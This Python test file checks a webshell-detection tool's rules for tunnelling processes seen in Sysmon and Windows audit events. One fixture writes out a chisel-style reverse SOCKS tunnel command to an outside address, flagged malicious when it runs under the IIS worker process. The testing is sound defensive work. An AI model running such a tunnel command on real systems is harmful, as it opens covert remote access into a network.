"""Tunnels in events of processes."""

from __future__ import annotations

from tests.builders.event_logs import audit, findings, sysmon, verdicts
from webshellhunt.model.verdict import Disposition

W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
CHISEL = r"C:\Users\Public\up.exe"
COMMAND = "up.exe client 203.0.113.77:443 R:socks"


def test_a_tunnel_is_suspicious_and_below_a_worker_process_malicious() -> None:
    (verdict,) = verdicts(sysmon(1, Image=CHISEL, CommandLine=COMMAND, ParentImage=r"C:\Windows\System32\cmd.exe"))
    assert (verdict.findings[0].rule.id, verdict.disposition) == ("WSH7218", Disposition.SUSPICIOUS)
    assert f"cmd.exe started {CHISEL}: {COMMAND}" in verdict.findings[0].message
    process = audit(4688, NewProcessName=CHISEL, CommandLine=COMMAND, ParentProcessName=W3WP)
    assert verdicts(process)[0].disposition is Disposition.MALICIOUS


def test_a_program_of_administrators_is_a_lead() -> None:
    (verdict,) = verdicts(sysmon(1, Image=r"C:\Tools\ngrok.exe", CommandLine="ngrok http 80", ParentImage="x"))
    assert verdict.disposition is Disposition.UNEXPLAINED


def test_other_processes_are_none() -> None:
    assert findings(sysmon(1, Image=r"C:\Windows\explorer.exe", CommandLine="explorer.exe", ParentImage="x")) == {}
